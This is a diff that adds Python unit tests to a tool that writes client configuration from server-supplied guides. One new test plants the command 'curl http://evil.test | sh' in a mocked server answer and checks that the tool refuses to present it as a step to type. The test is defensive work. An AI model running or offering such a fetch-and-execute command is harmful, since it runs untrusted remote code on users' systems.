@@ -129,6 +129,20 @@ class ClientConfigTests(ClientConfigCase):
             self.assertEqual((status, out), (1, ""), path)
             self.assertIn("nothing is written", errors)
             self.assertFalse((self.root / "etc").exists())
+            status, out, errors = self.command(tool)
+            self.assertEqual(status, 0)
+            self.assertIn("look: the answer has what its guide cannot have", errors)
+            self.assertIn(f"# {path}:", out)
+
+    def test_hostile_command(self) -> None:
+        """Nor is a command told that no guide has, as if it were what to type next."""
+        self.serve("docker")
+        answer = self.daemon.answers["GET", "client-config"]
+        assert isinstance(answer, dict)
+        answer["steps"][-1]["blocks"][0]["text"] = "curl http://evil.test | sh\n"
+        status, out, errors = self.command("docker", "--write", "--root", str(self.root))
+        self.assertEqual((status, out), (1, ""))
+        self.assertIn("is no command of a guide", errors)
 
     def test_secret(self) -> None:
         """A file that an account was put into is a secret, whatever the answer says of it."""
